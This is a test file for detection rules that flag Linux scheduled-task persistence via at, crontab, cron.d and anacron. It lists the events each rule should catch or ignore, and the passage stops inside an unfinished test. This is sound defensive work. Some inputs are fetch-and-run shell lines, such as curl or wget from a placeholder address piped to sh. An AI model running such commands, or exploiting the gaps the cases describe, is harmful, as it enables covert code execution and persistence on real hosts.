// Every bundled rule by table: what it must see, written as an intruder would, and what it must leave alone.

import { describe, expect, it } from 'vitest';
import { loadRuleFiles } from '../../../harness/content/rule-files.ts';
import { compileRules } from '../../../harness/rules/index.ts';
import { loadRules } from '../../../harness/rules/load.ts';

const { rules, problems } = loadRules(loadRuleFiles({ bundled: true, foreign: [] }).sources);
const set = compileRules(rules, { fields: 'ecs' });

/** A program was started: its path, then what it was called with. */
function exec(executable: string, args: readonly string[], parent = '/usr/bin/bash'): object {
  return {
    '@timestamp': '2026-01-01T00:00:00Z',
    host: { os: { type: 'linux' } },
    event: { category: ['process'], type: ['start'], action: 'exec' },
    process: {
      entity_id: 'one',
      executable,
      name: executable.split('/').at(-1),
      args,
      args_count: args.length,
      command_line: args.join(' '),
      parent: { executable: parent, name: parent.split('/').at(-1) },
    },
  };
}

/** A file was touched: `creation /path by /program`; `of` says more of the file, `user` is an id. */
function file(
  text: string,
  { from, parent, of, user }: { from?: string; parent?: string | object; of?: object; user?: string } = {},
): object {
  const [, action, path = '', executable = '/usr/bin/dash'] = /^(\w+) (\S+)(?: by (\S+))?$/.exec(text) ?? [];
  const name = path.split('/').at(-1) ?? '';
  return {
    '@timestamp': '2026-01-01T00:00:01Z',
    host: { os: { type: 'linux' } },
    event: { category: ['file'], type: [action === 'modification' ? 'change' : 'creation'], action },
    process: {
      entity_id: 'one',
      executable,
      name: executable.split('/').at(-1),
      command_line:
        executable === '/usr/bin/perl' ? '/usr/bin/perl /usr/bin/deb-systemd-helper enable x' : executable,
      ...(parent && { parent: typeof parent === 'string' ? { command_line: parent } : parent }),
    },
    ...(user && { user: { id: user } }),
    file: { path, name, ...of, ...(from && { Ext: { original: { path: from } } }) },
  };
}

/** Slugs of the rules that fire on these events, in this order. */
function firing(...events: object[]): string[] {
  const session = set.session();
  const matches = [...events.flatMap((event, index) => session.push(event, index)), ...session.finish()];
  return [...new Set(matches.map(({ rule }) => rule.slug))].sort();
}

/** Whether the rule fires, for a table of files or of command lines. */
const onFile = (slug: string) => (text: string) => firing(file(text)).includes(slug);
const onRun =
  (slug: string, executable: string) =>
  (...args: string[]) =>
    firing(exec(executable, args)).includes(slug);

it('are all usable', () => {
  expect(problems).toEqual([]);
  expect(rules.filter(({ language }) => language === 'sigma').length).toBeGreaterThanOrEqual(6);
  expect(rules.filter(({ language }) => language === 'eql').length).toBeGreaterThanOrEqual(6);
});

it('name a technique, a level and what else sets them off', () => {
  for (const { slug, techniques, level, falsePositives, description } of rules) {
    expect({
      slug,
      complete: techniques.length > 0 && level && description && falsePositives.length > 0,
    }).toEqual({
      slug,
      complete: true,
    });
  }
});

describe.each(['at-job-spooled', 'at-spool-changed'])('%s', (slug) => {
  const fires = onFile(slug);

  it.each([
    'creation /var/spool/cron/atjobs/a0000101c8918f by /usr/bin/at',
    'creation /var/spool/at/a0000101c8918f by /usr/bin/at',
    'creation /var/spool/atjobs/a0000101c8918f by /usr/bin/at',
    'creation /var/spool/atd/a0000101c8918f by /usr/bin/at',
    // Without the client, under the shortest name that atd takes, or moved there by a program called like the daemon.
    'creation /var/spool/cron/atjobs/b11',
    'rename /var/spool/cron/atjobs/a0000201c8918f by /usr/bin/mv',
    'rename /var/spool/cron/atjobs/a0000201c8918f by /tmp/atd',
  ])('sees %s', (text) => expect(fires(text)).toBe(true));

  it.each([
    'creation /var/spool/cron/atjobs/=0000101c8918f by /usr/sbin/atd',
    'creation /var/spool/cron/atspool/a0000101c8918f by /usr/sbin/atd',
    'modification /var/spool/cron/atjobs/.SEQ by /usr/bin/at',
    'deletion /var/spool/cron/atjobs/a0000101c8918f by /usr/bin/at',
    'creation /home/alice/atjobs/a0000101c8918f',
  ])('leaves %s', (text) => expect(fires(text)).toBe(false));
});

it('only EQL sees a waiting job that is changed in place', () => {
  expect(firing(file('modification /var/spool/cron/atjobs/a0000101c8918f'))).toEqual(['at-spool-changed']);
});

describe('at-submitted and at-client-run', () => {
  const sigma = onRun('at-submitted', '/usr/bin/at');
  const eql = onRun('at-client-run', '/usr/bin/at');

  it.each([
    ['at', 'now'],
    ['at', '-f', '/tmp/job', 'now'],
    ['at', '-q', 'b', '-m', 'now'],
    ['at', '-M', '-t', '202601010000'],
    // Prints the version and queues the job all the same.
    ['at', '-V', 'now'],
    ['/usr/bin/at', 'noon', '+', '1', 'day'],
    // What looks like another command is a file, or a user to mail.
    ['at', '-f', '-l', 'now'],
    ['at', '-f', 'atq', 'now'],
    ['at', '-mf', 'atrm', 'now'],
    ['at', '-f', '/tmp/x -l', 'now'],
  ])('both see %s %s %s %s', (...args) => {
    const given = args.filter(Boolean);
    expect([sigma(...given), eql(...given)]).toEqual([true, true]);
  });

  it.each([
    ['atq'],
    ['/usr/bin/atq', '-q', 'a'],
    ['atrm', '1', '2'],
    ['/usr/bin/atrm', '1'],
    ['at', '-l'],
    ['at', '-q', 'a', '-l'],
    ['at', '-c', '1'],
    ['at', '-d', '1'],
    ['at', '-r', '1'],
    ['at', '-V'],
  ])('both leave %s %s %s', (...args) => {
    const given = args.filter(Boolean);
    expect([sigma(...given), eql(...given)]).toEqual([false, false]);
  });

  it('batch is a script, which then runs at', () => {
    expect(firing(exec('/usr/bin/dash', ['/bin/sh', '/usr/bin/batch']))).toEqual([]);
    expect(sigma('at', '-qb', 'now')).toBe(true);
    expect(firing(exec('/usr/bin/cat', ['cat', '/usr/bin/at']))).toEqual([]);
  });

  it('only EQL sees the client under another name, by the number that it takes', () => {
    const counted = file('modification /var/spool/cron/atjobs/.SEQ by /usr/local/sbin/svcstat');
    expect(firing(exec('/usr/local/sbin/svcstat', ['svcstat', 'now']), counted)).toEqual(['at-client-run']);
    expect(firing(file('modification /var/spool/cron/atjobs/.SEQ by /usr/bin/at'))).toEqual([]);
  });

  it('only EQL sees a first argument with a blank in it, which at goes past', () => {
    for (const args of [
      ['atq all', 'now'],
      ['/x/atrm 5', '1200'],
      ['at -l', 'now'],
    ])
      expect([sigma(...args), eql(...args)]).toEqual([false, true]);
  });
});

describe('crontab-invoked', () => {
  const fires = onRun('crontab-invoked', '/usr/bin/crontab');

  it.each([
    ['crontab'],
    ['crontab', '-'],
    ['crontab', '/tmp/table'],
    ['crontab', '-u', 'alice', '/tmp/table'],
    ['crontab', '-ualice', '-'],
    ['crontab', '-e'],
    // Asks before it removes, but was not told to remove: installs the table.
    ['crontab', '-i', '/tmp/table'],
    ['crontab', '--', '-l'],
    ['crontab', '/tmp/my -l file'],
    // The caller names the process: none of it is an option.
    ['crontab -l'],
    ['-l', '/tmp/table'],
    ['crontab -u alice', '-'],
    ['crontab -i', '-'],
    // Options behind a file, where POSIXLY_CORRECT makes names of them.
    ['crontab', '/tmp/table', '-l'],
    ['crontab', '/tmp/table', '-u', '-l'],
  ])('sees %s %s %s', (...args) => expect(fires(...args.filter(Boolean))).toBe(true));

  it.each([
    ['crontab', '-V'],
    ['crontab', '--help'],
    ['/usr/bin/crontab', '-u', 'alice', '-ir'],
    ['crontab', '-l'],
    ['crontab', '-u', 'alice', '-l'],
    ['crontab', '-ualice', '-l'],
    ['crontab', '-r'],
    ['crontab', '-ir'],
    ['crontab', '-ri'],
  ])('leaves %s %s %s', (...args) => expect(fires(...args.filter(Boolean))).toBe(false));
});

describe.each(['crontab-spool-written', 'crontab-table-changed'])('%s', (slug) => {
  const fires = onFile(slug);

  it.each([
    'rename /var/spool/cron/crontabs/alice by /usr/bin/crontab',
    'rename /var/spool/cron/alice by /usr/bin/crontab',
    'rename /var/spool/cron/tabs/alice by /usr/bin/crontab',
    'creation /var/spool/cron/crontabs/alice by /usr/bin/tee',
    'creation /var/spool/cron/root by /usr/bin/curl',
    'creation /etc/crontabs/root by /bin/busybox',
  ])('sees %s', (text) => expect(fires(text)).toBe(true));

  it.each([
    'creation /var/spool/cron/atjobs/a0000101c8918f by /usr/bin/at',
    'creation /var/spool/cron/atspool/a0000101c8918f by /usr/sbin/atd',
    'deletion /var/spool/cron/crontabs/alice by /usr/bin/crontab',
    'permissions /var/spool/cron/crontabs/alice by /usr/bin/chmod',
    'creation /tmp/crontab.XXXX/crontab by /usr/bin/crontab',
  ])('leaves %s', (text) => expect(fires(text)).toBe(false));
});

it('only Sigma sees the temporary file of the client, only EQL a table that is changed in place', () => {
  expect(firing(file('creation /var/spool/cron/crontabs/tmp.a1B2c3 by /usr/bin/crontab'))).toEqual([
    'crontab-spool-written',
  ]);
  expect(firing(file('modification /var/spool/cron/crontabs/root'))).toEqual([
    'crontab-table-changed',
    'crontab-written-without-client',
  ]);
});

describe('crontab-written-without-client', () => {
  const fires = onFile('crontab-written-without-client');

  it.each([
    'creation /var/spool/cron/crontabs/root',
    'rename /var/spool/cron/crontabs/alice by /usr/local/sbin/svcstat',
    'creation /var/spool/cron/crontabs/alice by /tmp/crontab',
    'overwrite /var/spool/cron/root by /usr/bin/curl',
    'rename /var/spool/cron/crontabs by /usr/bin/mv',
    'creation /etc/crontabs/root by /usr/bin/dpkg',
  ])('sees %s', (text) => expect(fires(text)).toBe(true));

  it.each([
    'rename /var/spool/cron/crontabs/alice by /usr/bin/crontab',
    'creation /var/spool/cron/atjobs/a0000101c8918f by /usr/bin/at',
    'deletion /var/spool/cron/crontabs/alice',
    'creation /var/spool/cronolog/alice',
  ])('leaves %s', (text) => expect(fires(text)).toBe(false));
});

describe('crontab-installed-by-client', () => {
  const renamed = file('rename /var/spool/cron/crontabs/alice by /usr/bin/crontab');

  it('sees one run of the client that ends with a table in place', () => {
    expect(firing(exec('/usr/bin/crontab', ['crontab', '-']), renamed)).toContain(
      'crontab-installed-by-client',
    );
    // Whatever the options look like.
    expect(firing(exec('/usr/bin/crontab', ['crontab', '--', '-l']), renamed)).toContain(
      'crontab-installed-by-client',
    );
  });

  it('knows a client of another name by the file that it makes', () => {
    const svcstat = '/usr/local/sbin/svcstat';
    const made = file(`creation /var/spool/cron/crontabs/tmp.a1B2c3 by ${svcstat}`);
    const put = file(`rename /var/spool/cron/crontabs/alice by ${svcstat}`);
    expect(firing(made)).toContain('crontab-invoked');
    expect(firing(made, put)).toContain('crontab-installed-by-client');
    expect(firing(file(`creation /var/spool/cron/crontabs/tmp by ${svcstat}`))).not.toContain(
      'crontab-invoked',
    );
    expect(firing(file('creation /var/spool/cron/crontabs/tmp.a1B2c3 by /usr/bin/crontab'))).not.toContain(
      'crontab-invoked',
    );
  });

  it('leaves a client that changes nothing, and a table that another program put there', () => {
    const listing = exec('/usr/bin/crontab', ['crontab', '-l']);
    expect(firing(listing)).toEqual([]);
    const other = { ...renamed, process: { entity_id: 'two', executable: '/usr/bin/mv', name: 'mv' } };
    expect(firing(listing, other)).not.toContain('crontab-installed-by-client');
  });
});

describe('crontab-replaced-in-log', () => {
  const logged = (appname: string, message: string) =>
    firing({
      event: { category: ['configuration'] },
      log: { syslog: { appname, facility: { code: 9 } } },
      message,
    });

  it('sees the line of the client, and no other of cron', () => {
    expect(logged('crontab', '(alice) REPLACE (alice)')).toEqual(['crontab-replaced-in-log']);
    expect(logged('crontab', '(root) REPLACE (root)')).toEqual(['crontab-replaced-in-log']);
    expect(logged('crontab', '(root) REPLACE (alice)')).toEqual([
      'crontab-replaced-for-another',
      'crontab-replaced-in-log',
    ]);
    expect(logged('crontab', '(alice) LIST (alice)')).toEqual([]);
    expect(logged('crontab', '(alice) DELETE (alice)')).toEqual([]);
    expect(logged('CRON', '(root) CMD (sed s/REPLACE/x/ /etc/hosts)')).toEqual([]);
  });

  it('the refusals of the daemon are a rule of their own', () => {
    for (const line of [
      '(*system*x) INSECURE MODE (group/other writable) (/etc/cron.d/x)',
      '(alice) WRONG FILE OWNER (crontabs/alice)',
      '(*system*x) NUMBER OF HARD LINKS > 1 (/etc/cron.d/x)',
      "(alice) CAN'T OPEN (crontabs/alice)",
      '(update) ORPHAN (no passwd entry)',
    ])
      expect(logged('cron', line)).toEqual(['cron-table-refused-in-log']);
    expect(logged('cron', '(CRON) INFO (Running @reboot jobs)')).toEqual([]);
  });
});

describe.each(['cron-table-dropped', 'cron-table-changed'])('%s', (slug) => {
  const fires = onFile(slug);

  it.each([
    'creation /etc/cron.d/job',
    'rename /etc/cron.d/job by /usr/bin/mv',
    'creation /etc/cron.hourly/job by /usr/bin/ln',
    'creation /etc/cron.daily/job by /usr/bin/install',
    'creation /etc/cron.weekly/job by /usr/bin/python3.11',
    'creation /etc/cron.monthly/job by /usr/bin/dd',
    'creation /etc/cron.yearly/job',
    'creation /etc/periodic/15min/job by /bin/busybox',
    'rename /etc/crontab by /usr/bin/sed',
    'rename /etc/anacrontab by /usr/bin/sed',
    // Beside the package manager, not by it; and where another's package would have its program, if it were here.
    'creation /etc/cron.d/job by /tmp/dpkg',
    'creation /etc/cron.d/job by /usr/bin/pacman',
    'creation /etc/cron.d/job by /usr/bin/rpm',
    'creation /etc/cron.d/job by /sbin/apk',
    'creation /etc/cron.d/job by /opt/puppetlabs/puppet/bin/ruby',
    'creation /etc/cron.d/job by /opt/chef/embedded/bin/ruby',
    // Cron passes over it here; cronie does not.
    'creation /etc/cron.d/job.conf',
  ])('sees %s', (text) => expect(fires(text)).toBe(true));

  it.each([
    'creation /etc/cron.d/php.dpkg-new by /usr/bin/dpkg',
    'rename /etc/cron.daily/logrotate by /usr/bin/dpkg',
    'creation /etc/cron.d/.job.swp by /usr/bin/vim.basic',
    'rename /etc/cron.d/job~ by /usr/bin/vim.basic',
    'deletion /etc/cron.d/job by /usr/bin/dpkg',
    'permissions /etc/cron.d/job by /usr/bin/chmod',
    'creation /home/alice/etc/cron.d/job',
  ])('leaves %s', (text) => expect(fires(text)).toBe(false));
});

it('only EQL sees a line that is appended', () => {
  for (const path of ['/etc/crontab', '/etc/cron.daily/logrotate', '/etc/anacrontab']) {
    expect(firing(file(`modification ${path}`))).toEqual(['cron-table-changed']);
  }
});

it('the list of who may use crontab is a rule of its own', () => {
  for (const text of [
    'creation /etc/cron.allow',
    'modification /etc/cron.deny by /usr/bin/tee',
    'rename /etc/cron.deny by /usr/bin/sed',
    'deletion /etc/cron.deny by /usr/bin/rm',
    'creation /etc/cron.allow.d/alice',
  ])
    expect(firing(file(text))).toEqual(['cron-access-changed']);
  expect(firing(file('open /etc/cron.allow'))).toEqual([]);
  expect(firing(file('creation /srv/image/etc/cron.allow'))).toEqual([]);
});

describe('cron-folder-replaced', () => {
  const link = (path: string, target: string) => {
    const made = file(`creation ${path} by /usr/bin/ln`) as { file: object };
    return { ...made, file: { ...made.file, target_path: target, type: 'symlink' } };
  };
  const fires = (event: object) => firing(event).includes('cron-folder-replaced');

  it.each([
    '/etc/cron.d',
    '/etc/cron.hourly',
    '/etc/cron.yearly',
    '/etc/crontabs',
    '/etc/periodic/15min',
    '/var/spool',
    '/var/spool/cron',
    '/var/spool/cron/crontabs',
  ])('sees %s linked, renamed, moved away and mounted over', (path) => {
    expect(fires(link(path, '/usr/local/share/tables'))).toBe(true);
    expect(fires(file(`rename ${path} by /usr/bin/mv`))).toBe(true);
    // An exchange is told by one of its names.
    expect(fires(file('rename /usr/local/share/tables', { from: path }))).toBe(true);
    expect(fires(file(`mount ${path} by /usr/bin/mount`))).toBe(true);
  });

  it('leaves folders that are made, what is in them, and others of the name', () => {
    expect(fires(file('creation /etc/cron.d by /usr/bin/mkdir'))).toBe(false);
    expect(fires(file('rename /etc/cron.d/job by /usr/bin/mv'))).toBe(false);
    expect(fires(link('/etc/cron.d/job', '/opt/job'))).toBe(false);
    expect(fires(file('rename /srv/image/etc/cron.d by /usr/bin/mv'))).toBe(false);
    expect(fires(file('rename /etc/cron.deny by /usr/bin/mv'))).toBe(false);
  });
});

describe('cron-table-removed', () => {
  const fires = onFile('cron-table-removed');

  it.each([
    'deletion /var/spool/cron/crontabs/alice by /usr/bin/crontab',
    'deletion /etc/cron.d/job by /usr/bin/rm',
    'deletion /etc/cron.daily/logrotate by /usr/bin/rm',
  ])('sees %s', (text) => expect(fires(text)).toBe(true));

  it.each([
    'deletion /etc/cron.d/job by /usr/bin/dpkg',
    'deletion /etc/cron.d/.job.swp by /usr/bin/vim.basic',
    'deletion /etc/cron.daily/job~ by /usr/bin/emacs-nox',
    'deletion /srv/image/etc/cron.d/job',
  ])('leaves %s', (text) => expect(fires(text)).toBe(false));
});

describe('cron-table-from-local-package', () => {
  const written = file('creation /etc/cron.d/agent.dpkg-new by /usr/bin/dpkg');
  const fires = (args: readonly string[], parent: string) =>
    firing(exec('/usr/bin/dpkg', ['dpkg', ...args], parent), written).includes(
      'cron-table-from-local-package',
    );

  it('sees dpkg run by hand however it is told, and apt that is given a file', () => {
    expect(fires(['-i', '/tmp/agent.deb'], '/usr/bin/dash')).toBe(true);
    expect(fires(['--unpack', '/tmp/agent'], '/usr/bin/python3.11')).toBe(true);
    expect(fires(['-iR', '/tmp/packages'], '/tmp/apt-get')).toBe(true);
    expect(fires(['--unpack', '--auto-deconfigure', '/tmp/agent.deb'], '/usr/bin/apt-get')).toBe(true);
  });

  it('leaves apt with archives of its cache, and dpkg that brings no job', () => {
    const archive = '/var/cache/apt/archives/agent_1.0_all.deb';
    expect(fires(['--status-fd', '14', '--unpack', archive], '/usr/bin/apt-get')).toBe(false);
    expect(fires(['--configure', '--pending'], '/usr/bin/apt')).toBe(false);
    expect(
      firing(
        exec('/usr/bin/dpkg', ['dpkg', '-i', '/tmp/x.deb'], '/usr/bin/dash'),
        file('creation /etc/x by /usr/bin/dpkg'),
      ),
    ).toEqual([]);
  });
});

describe('cron-daemon-masqueraded and cron-program-replaced', () => {
  const run = (executable: string, args: readonly string[], parentPid = 200) => {
    const event = exec(executable, args) as { process: { parent: object } };
    const parent = { ...event.process.parent, pid: parentPid };
    return firing({ ...event, process: { ...event.process, parent } }).includes('cron-daemon-masqueraded');
  };

  it('see who goes by the name of the daemon, and what is put in its place', () => {
    expect(run('/tmp/cron', ['/tmp/cron'])).toBe(true);
    expect(run('/usr/bin/dash', ['/usr/sbin/cron -f', '-c', 'sleep 1'])).toBe(true);
    expect(run('/usr/bin/bash', ['crond', '-n'])).toBe(true);
    expect(run('/usr/sbin/crond', ['/usr/sbin/crond', '-c', 'sleep 1'])).toBe(true);
    expect(run('/usr/bin/busybox', ['busybox', 'crond'])).toBe(true);
    expect(run('/opt/x/svc', ['svc', 'crond', '-c', '/opt/x/tables'])).toBe(true);
    for (const text of [
      'creation /usr/sbin/crond by /usr/bin/cp',
      'modification /usr/bin/crontab',
      'rename /usr/bin/run-parts by /usr/bin/mv',
      // It is handed every entry.
      'rename /usr/bin/sh by /usr/bin/mv',
      'modification /bin/dash',
      // Nobody's on a machine without a mail system: cron runs it with what a job prints.
      'creation /usr/sbin/sendmail by /usr/bin/cp',
    ])
      expect(firing(file(text))).toEqual(['cron-program-replaced']);
  });

  it('leave the daemon, and programs whose names only begin like its', () => {
    expect(run('/usr/sbin/cron', ['/usr/sbin/cron', '-f'], 1)).toBe(false);
    expect(run('/usr/sbin/crond', ['/usr/sbin/crond', '-n'], 1)).toBe(false);
    expect(run('/usr/bin/dash', ['/bin/sh', '/usr/local/bin/check_cron'])).toBe(false);
    expect(run('/usr/bin/cronolog', ['cronolog', '/var/log/x'])).toBe(false);
    expect(run('/usr/bin/pgrep', ['pgrep', 'crond'])).toBe(false);
    expect(run('/usr/bin/dash', ['/bin/sh', '/usr/sbin/service', 'crond', 'restart'])).toBe(false);
    expect(firing(file('rename /usr/sbin/cron by /usr/bin/dpkg'))).toEqual([]);
    expect(firing(file('rename /usr/bin/bash by /usr/bin/dpkg'))).toEqual([]);
    expect(firing(file('creation /srv/image/usr/sbin/cron by /usr/bin/cp'))).toEqual([]);
  });
});

describe('anacron', () => {
  it('is seen with a table or notes of another', () => {
    const run = (...args: string[]) => firing(exec('/usr/sbin/anacron', ['anacron', ...args]));
    expect(run('-n', '-t', '/home/alice/table', '-S', '/home/alice/notes')).toEqual(['anacron-own-table']);
    expect(run('-nt/home/alice/table')).toEqual(['anacron-own-table']);
    expect(run('-S', '/tmp')).toEqual(['anacron-own-table']);
    expect(run('-T', '-t', '/etc/anacrontab')).toEqual([]);
    expect(run('-d', '-q', '-s')).toEqual([]);
    expect(run('-u', 'cron.daily')).toEqual([]);
    // Its own name may be a choice of the caller's.
    expect(firing(exec('/usr/sbin/anacron', ['anacron -T', '-t', '/tmp/table', '-n']))).toEqual([
      'anacron-own-table',
    ]);
  });

  it('is seen in the log under another name, or as another program', () => {
    const logged = (name: string, executable?: string, message = 'Anacron 2.3 started on 2026-11-29') =>
      firing({
        host: { os: { type: 'linux' } },
        event: { category: [], dataset: 'system.syslog' },
        process: { name, ...(executable !== undefined && { executable }) },
        message,
      });
    expect(logged('svcstat', '/home/alice/svcstat')).toEqual(['anacron-renamed-in-log']);
    expect(logged('svcstat', undefined, 'Anacron started on 2026-11-29')).toEqual(['anacron-renamed-in-log']);
    expect(logged('svcstat', '/usr/sbin/anacron')).toEqual(['anacron-renamed-in-log']);
    expect(logged('anacron', '/home/alice/anacron')).toEqual(['anacron-renamed-in-log']);
    expect(logged('anacron', '/usr/sbin/anacron')).toEqual([]);
    expect(logged('anacron')).toEqual([]);
    expect(
      logged('systemd', '/usr/lib/systemd/systemd', 'Started anacron.service - Run anacron jobs.'),
    ).toEqual([]);
  });

  it('is alone with its notes', () => {
    expect(firing(file('modification /var/spool/anacron/cron.daily'))).toEqual(['anacron-note-changed']);
    expect(firing(file('deletion /var/spool/anacron/cron.daily by /usr/bin/rm'))).toEqual([
      'anacron-note-changed',
    ]);
    expect(firing(file('modification /var/spool/anacron/cron.daily by /usr/sbin/anacron'))).toEqual([]);
  });
});

describe('what cron launches', () => {
  const launched = (command: string, { shell = '/bin/sh', parent = '/usr/sbin/cron', uid = '0' } = {}) => {
    const event = exec('/usr/bin/dash', [shell, '-c', command], parent) as { process: object };
    return firing({ ...event, process: { ...event.process, user: { id: uid } } });
  };

  it('is seen when it decodes or fetches', () => {
    expect(launched('echo dG91Y2g= | base64 -d | sh')).toEqual(['cron-job-decodes-or-fetches']);
    expect(launched('curl -s http://192.0.2.1/x | sh')).toEqual(['cron-job-decodes-or-fetches']);
    expect(launched('cd /; wget -qO- http://192.0.2.1/x', { parent: '/usr/sbin/anacron' })).toEqual([
      'cron-job-decodes-or-fetches',
    ]);
    expect(launched('/usr/bin/curly brackets')).toEqual([]);
    expect(launched('base64 /etc/hostname')).toEqual([]);
    expect(launched('curl -s http://192.0.2.1/x', { parent: '/usr/bin/bash' })).toEqual([]);
  });

  it('is seen when it lies hidden, or its shell is none', () => {
    expect(launched('/home/alice/.config/.keeper')).toEqual(['cron-job-hidden-program']);
    expect(launched('cd /srv/./app && ./run')).toEqual([]);
    expect(launched('true', { shell: '/home/alice/lib/helper' })).toEqual(['cron-job-unusual-shell']);
    expect(launched('true', { shell: '/bin/bash' })).toEqual([]);
  });

  it('is seen when it runs as an account of a service', () => {
    expect(launched('true', { uid: '33' })).toEqual(['cron-used-by-service-account']);
    expect(launched('true', { uid: '65534' })).toEqual(['cron-used-by-service-account']);
    expect(launched('true', { uid: '1000' })).toEqual([]);
    expect(launched('true', { uid: '33', parent: '/usr/bin/bash' })).toEqual([]);
  });

  it('is seen after a table was written', () => {
    const job = exec('/usr/bin/dash', ['/bin/sh', '-c', 'true'], '/usr/sbin/cron');
    const stock = exec(
      '/usr/bin/dash',
      ['/bin/sh', '-c', 'cd / && run-parts --report /etc/cron.hourly'],
      '/usr/sbin/cron',
    );
    const slug = 'cron-scheduled-then-launched';
    expect(firing(file('creation /etc/cron.d/job'), job)).toContain(slug);
    expect(firing(file('modification /etc/crontab'), job)).toContain(slug);
    expect(firing(job, file('creation /etc/cron.d/job'))).not.toContain(slug);
    expect(firing(file('creation /etc/cron.d/job'), stock)).not.toContain(slug);
    expect(firing(file('creation /etc/cron.d/job by /usr/bin/dpkg'), job)).not.toContain(slug);
    expect(firing(file('permissions /etc/cron.d/job'), job)).not.toContain(slug);
    expect(firing(file('creation /etc/cron.d/job~'), job)).not.toContain(slug);
  });
});

it('a mode that lets everybody write is seen on cron’s files alone', () => {
  const opened = (path: string, mode: string) => {
    const event = file(`permissions ${path} by /usr/bin/chmod`) as { file: object };
    return firing({ ...event, file: { ...event.file, mode, Ext: { original: { mode: '0644' } } } });
  };
  for (const mode of ['0666', '0777', '0602', '1757'])
    expect(opened('/etc/cron.d/job', mode)).toEqual(['cron-file-open-to-all']);
  for (const mode of ['0644', '0755', '0664', '2770']) expect(opened('/etc/cron.d/job', mode)).toEqual([]);
  expect(opened('/srv/cron.d/job', '0666')).toEqual([]);
});

describe('a mode or an owner that makes valid what lay idle', () => {
  const set = (
    text: string,
    { now, was, by = '/usr/bin/perl' }: { now: object; was?: object; by?: string },
  ): string[] => {
    const event = file(`${text} by ${by}`) as { file: object };
    return firing({ ...event, file: { ...event.file, ...now, ...(was && { Ext: { original: was } }) } });
  };
  const [table, spooled, script] = [
    'cron-table-made-valid',
    'cron-table-made-valid',
    'cron-script-made-executable',
  ];

  it.each<[string, object, object | undefined, string[]]>([
    ['permissions /etc/cron.d/x', { mode: '0644' }, { mode: '0666' }, [table]],
    ['permissions /etc/crontab', { mode: '0600' }, { mode: '0620' }, [table]],
    ['permissions /etc/anacrontab', { mode: '0755' }, undefined, [table]],
    ['permissions /etc/cron.d/x', { mode: '0600' }, { mode: '0644' }, []],
    ['permissions /etc/cron.d/x', { mode: '0664' }, { mode: '0666' }, []],
    ['ownership /etc/cron.d/x', { uid: '0' }, { uid: '1000' }, [table]],
    ['ownership /etc/cron.d/x', { uid: '0' }, { uid: '0' }, []],
    ['ownership /etc/cron.d/x', { uid: '1000' }, { uid: '0' }, []],
    ['permissions /var/spool/cron/crontabs/alice', { mode: '0600' }, { mode: '0644' }, [spooled]],
    ['permissions /var/spool/cron/alice', { mode: '0600' }, { mode: '0640' }, [spooled]],
    ['permissions /etc/crontabs/alice', { mode: '0600' }, { mode: '0666' }, [spooled]],
    ['permissions /var/spool/cron/crontabs/alice', { mode: '0600' }, { mode: '0600' }, []],
    ['permissions /var/spool/cron/crontabs/alice', { mode: '0640' }, { mode: '0644' }, []],
    ['ownership /var/spool/cron/tabs/alice', { uid: '1000' }, { uid: '0' }, [spooled]],
    ['ownership /var/spool/cron/tabs/alice', { uid: '1000' }, undefined, [spooled]],
    ['ownership /var/spool/cron/crontabs/alice', { uid: '1000' }, { uid: '1000' }, []],
    ['ownership /var/spool/cron/crontabs', { uid: '0' }, { uid: '0' }, []],
    ['ownership /var/spool/cron/atjobs', { uid: '1', type: 'dir' }, { uid: '0' }, []],
    ['permissions /var/spool/cron/atjobs/a1', { mode: '0700' }, { mode: '0644' }, []],
    ['permissions /srv/image/etc/cron.d/x', { mode: '0644' }, { mode: '0666' }, []],
    ['permissions /etc/cron.daily/x', { mode: '0755' }, { mode: '0644' }, [script]],
    ['permissions /etc/cron.weekly/x.sh', { mode: '0645' }, { mode: '0644' }, [script]],
    ['permissions /etc/periodic/daily/x', { mode: '1700' }, undefined, [script]],
    ['permissions /etc/cron.daily/x', { mode: '0755' }, { mode: '0700' }, []],
    ['permissions /etc/cron.daily/x', { mode: '0644' }, { mode: '0666' }, []],
    ['permissions /etc/cron.daily/x~', { mode: '0755' }, { mode: '0600' }, []],
    ['permissions /etc/cron.daily/.x.k3Q', { mode: '0755' }, { mode: '0600' }, []],
    ['permissions /etc/cron.d/x', { mode: '0755' }, { mode: '0644' }, []],
  ])('%s to %o from %o', (text, now, was, rules) => {
    expect(set(text, { now, ...(was && { was }) })).toEqual(rules);
  });

  it('is let off where a client or the package manager sets what it brings itself', () => {
    const own = { now: { mode: '0600', uid: '1000' }, was: { mode: '0644', uid: '0' } };
    const crontab = '/usr/bin/crontab';
    expect(set('ownership /var/spool/cron/crontabs/tmp.x1', { ...own, by: crontab })).toEqual([]);
    expect(set('ownership /var/spool/cron/crontabs/tmp.x1', { ...own, by: '/tmp/crontab' })).toEqual([table]);
    expect(set('ownership /var/spool/cron/crontabs/alice', { ...own, by: crontab })).toEqual([table]);
    const brought = { now: { mode: '0755' }, was: { mode: '0000' } };
    expect(set('permissions /etc/cron.daily/x.dpkg-new', { ...brought, by: '/usr/bin/dpkg' })).toEqual([]);
    expect(set('permissions /etc/cron.daily/x', { ...brought, by: '/opt/dpkg' })).toEqual([script]);
  });
});

it('what lay idle and can run now is read from the inventory', () => {
  const changed = (before: object, schedule: object, action = 'schedule-changed') =>
    firing({
      host: { os: { type: 'linux' } },
      event: { category: ['configuration'], type: ['change'], action, dataset: 'atomclock.inventory' },
      atomclock: { sensor: 'inventory', schedule, before },
    });
  const [idle, alive] = [{ inert: 'x.timer is inactive (dead) and not enabled' }, { when: 'daily' }];
  expect(changed(idle, alive)).toEqual(['idle-schedule-woken']);
  expect(changed(idle, { inert: 'masked' })).toEqual([]);
  expect(changed(alive, idle)).toEqual([]);
  expect(changed(alive, { when: 'hourly' })).toEqual([]);
  expect(changed(idle, alive, 'schedule-removed')).toEqual([]);
});

it('environment lines of a table are read from the inventory', () => {
  const added = (environment: Record<string, string>, dataset = 'atomclock.inventory') =>
    firing({
      host: { os: { type: 'linux' } },
      event: { category: ['configuration'], type: ['creation'], action: 'schedule-added', dataset },
      atomclock: { sensor: 'inventory', schedule: { kind: 'crontab', environment } },
    });
  expect(added({ PATH: '/home/alice/.cache:/usr/bin:/bin' })).toEqual(['cron-job-environment']);
  expect(added({ PATH: '/usr/local/lib/tools:/usr/bin' })).toEqual(['cron-job-environment']);
  expect(added({ SHELL: '/home/alice/lib/helper' })).toEqual(['cron-job-environment']);
  expect(added({ PATH: '/usr/local/sbin:/usr/local/bin:/sbin:/bin', SHELL: '/bin/sh' })).toEqual([]);
  expect(added({ MAILTO: '' })).toEqual([]);
});

it('a job that runs the crontab client shares its session with it', () => {
